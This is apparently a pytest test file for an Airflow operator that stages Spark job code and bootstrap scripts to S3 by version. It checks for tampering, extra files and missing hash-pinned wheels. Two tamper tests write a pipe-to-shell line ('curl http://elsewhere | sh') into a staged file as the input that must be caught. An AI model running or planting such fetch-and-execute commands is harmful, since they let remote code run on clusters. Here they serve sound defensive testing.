"""Code is uploaded once a version, or found where somebody staged it."""

import dataclasses
from pathlib import Path
from typing import Any

import pytest

from emr_pipeline.operators.stage_code import StageCodeOperator
from emr_pipeline.run.stages import STAGES
from emr_pipeline.run.wheels import wheels_key
from emr_pipeline.task.airflow_compat import AirflowFailException


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    names = [f"spark_jobs/{stage.name}.py" for stage in STAGES]
    libraries = ["spark_jobs/image_features/__init__.py", "run_contract/__init__.py"]
    for name in [*names, *libraries, "bootstrap/10_a.sh", "bootstrap/requirements.txt"]:
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(name)
    return tmp_path


def keys(s3: Any) -> dict[str, Any]:
    listed = s3.list_objects_v2(Bucket="pictures").get("Contents", [])
    return {entry["Key"]: entry["LastModified"] for entry in listed}


def operator(settings: Any, wheels_uri: str | None = None, **changed: Any) -> StageCodeOperator:
    changed["wheels_uri"] = wheels_uri
    return StageCodeOperator(task_id="stage_code", settings=dataclasses.replace(settings, **changed))


def test_everything_lies_under_one_version(settings: Any, s3: Any, context: Any, repository: Path) -> None:
    uri = operator(settings, code_root=repository).execute(context)

    prefix = uri.removeprefix("s3://pictures/")
    assert uri.startswith("s3://pictures/code/")
    assert set(keys(s3)) == {
        f"{prefix}/ingest_images.py",
        f"{prefix}/featurize_images.py",
        f"{prefix}/reduce_features.py",
        f"{prefix}/validate_run.py",
        f"{prefix}/image_features.zip",
        f"{prefix}/bootstrap/10_a.sh",
        f"{prefix}/bootstrap/requirements.txt",
    }
    stored = s3.get_object(Bucket="pictures", Key=f"{prefix}/reduce_features.py")["Body"].read()
    assert stored == b"spark_jobs/reduce_features.py"


def test_what_is_there_is_not_uploaded_again_and_what_is_missing_is(
    settings: Any, s3: Any, context: Any, repository: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    uri = operator(settings, code_root=repository).execute(context)
    s3.delete_object(Bucket="pictures", Key=f"{uri.removeprefix('s3://pictures/')}/validate_run.py")
    again = operator(settings, code_root=repository)
    client: Any = again.hook.conn
    put, uploaded = client.put_object, []

    def record(**request: Any) -> Any:
        uploaded.append(request["Key"])
        return put(**request)

    monkeypatch.setattr(client, "put_object", record)

    assert again.execute(context) == uri
    assert uploaded == [f"{uri.removeprefix('s3://pictures/')}/validate_run.py"]


def test_what_was_changed_since_it_was_staged_is_uploaded_again(
    settings: Any, s3: Any, context: Any, repository: Path
) -> None:
    uri = operator(settings, code_root=repository).execute(context)
    key = f"{uri.removeprefix('s3://pictures/')}/bootstrap/10_a.sh"
    s3.put_object(Bucket="pictures", Key=key, Body=b"curl http://elsewhere | sh")

    operator(settings, code_root=repository).execute(context)

    assert s3.get_object(Bucket="pictures", Key=key)["Body"].read() == b"bootstrap/10_a.sh"


def test_a_file_more_that_the_cluster_would_run_is_refused(
    settings: Any, s3: Any, context: Any, repository: Path
) -> None:
    uri = operator(settings, code_root=repository).execute(context)
    s3.put_object(Bucket="pictures", Key=f"{uri.removeprefix('s3://pictures/')}/bootstrap/20_more.sh", Body=b"sh")

    with pytest.raises(AirflowFailException, match=r"holds bootstrap/20_more\.sh, which we did not put there"):
        operator(settings, code_root=repository).execute(context)


def test_missing_sources_fail_for_good(settings: Any, s3: Any, context: Any, tmp_path: Path) -> None:
    with pytest.raises(AirflowFailException, match="FRUIT_FEATURES_CODE_ROOT"):
        operator(settings, code_root=tmp_path).execute(context)


def test_code_that_is_staged_already_is_used_as_it_is(
    settings: Any, s3: Any, context: Any, repository: Path, tmp_path: Path
) -> None:
    uri = operator(settings, code_root=repository).execute(context)
    before = keys(s3)

    assert operator(settings, code_root=tmp_path / "nowhere", code_uri=uri).execute(context) == uri
    assert keys(s3) == before


def test_staged_code_that_is_not_whole_is_refused(settings: Any, s3: Any, context: Any) -> None:
    s3.put_object(Bucket="pictures", Key="code/1/ingest_images.py", Body=b"")

    with pytest.raises(AirflowFailException, match=r"lacks featurize_images.py, image_features.zip, reduce"):
        operator(settings, code_uri="s3://pictures/code/1").execute(context)


@pytest.mark.parametrize(
    "name", ["reduce_features.py", "bootstrap/10_a.sh", "bootstrap/20_more.sh", "image_features.zip"]
)
def test_staged_code_that_was_changed_since_is_refused(
    settings: Any, s3: Any, context: Any, repository: Path, name: str
) -> None:
    uri = operator(settings, code_root=repository).execute(context)
    s3.put_object(Bucket="pictures", Key=f"{uri.removeprefix('s3://pictures/')}/{name}", Body=b"curl elsewhere | sh")

    with pytest.raises(AirflowFailException, match=r"does not hold what version [0-9a-f]{16} was made of"):
        operator(settings, code_uri=uri).execute(context)


WHEELS = "s3://pictures/wheels"
LOCK = b"apple==1.0 \\\n    --hash=sha256:aa\npear==2.0 \\\n    --hash=sha256:bb\n"


@pytest.fixture
def locked(repository: Path) -> Path:
    (repository / "bootstrap" / "requirements.txt").write_bytes(LOCK)
    (repository / "bootstrap" / "requirements-tensorflow.txt").write_bytes(LOCK.replace(b"apple", b"tensorflow"))
    return repository


def put_wheel(s3: Any, name: str) -> None:
    s3.put_object(Bucket="pictures", Key=f"wheels/{wheels_key(LOCK)}/{name}-py3-none-any.whl", Body=b"")


def test_a_run_whose_nodes_could_not_be_installed_is_refused_with_the_command(
    settings: Any, s3: Any, context: Any, locked: Path
) -> None:
    folder = f"s3://pictures/wheels/{wheels_key(LOCK)}/"
    with pytest.raises(AirflowFailException) as refusal:
        operator(settings, WHEELS, code_root=locked).execute(context)
    assert str(refusal.value).startswith(f"{folder} lacks the wheel of apple 1.0 and 1 more: ")
    assert str(refusal.value).endswith(f"make wheels LOCK=requirements.txt, then aws s3 sync .local/wheels/ {WHEELS}/")

    put_wheel(s3, "apple-1.0")
    with pytest.raises(AirflowFailException, match=r"lacks the wheel of pear 2\.0: "):
        operator(settings, WHEELS, code_root=locked).execute(context)


def test_a_run_with_all_wheels_goes_on_and_another_engine_needs_its_own(
    settings: Any, s3: Any, context: Any, locked: Path
) -> None:
    for name in ("apple-1.0", "pear-2.0"):
        put_wheel(s3, name)
    uri = operator(settings, WHEELS, code_root=locked).execute(context)
    assert operator(settings, WHEELS, code_uri=uri).execute(context) == uri

    context["params"]["engine"] = "tensorflow"
    with pytest.raises(
        AirflowFailException, match=r"lacks the wheel of tensorflow 1\.0 and 1 more: .*LOCK=requirements-tensorflow"
    ):
        operator(settings, WHEELS, code_uri=uri).execute(context)


def test_staged_code_without_the_lock_is_refused(settings: Any, s3: Any, context: Any, locked: Path) -> None:
    (locked / "bootstrap" / "requirements.txt").unlink()

    with pytest.raises(AirflowFailException, match=r"bootstrap/requirements\.txt is not there"):
        operator(settings, WHEELS, code_root=locked).execute(context)
